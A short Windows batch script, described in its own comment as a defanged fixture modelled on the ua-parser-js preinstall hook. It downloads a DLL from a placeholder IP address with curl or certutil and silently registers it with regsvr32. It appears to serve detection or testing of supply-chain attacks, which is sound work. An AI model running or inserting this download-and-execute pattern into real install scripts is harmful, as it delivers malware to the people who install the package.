@echo off
rem defanged fixture in the shape of ua-parser-js preinstall.bat (host is .invalid)
curl http://198.51.100.23/sdd.dll -o compile.dll
if not exist compile.dll (
    certutil.exe -urlcache -f http://198.51.100.23/sdd.dll compile.dll
)
regsvr32.exe -s compile.dll
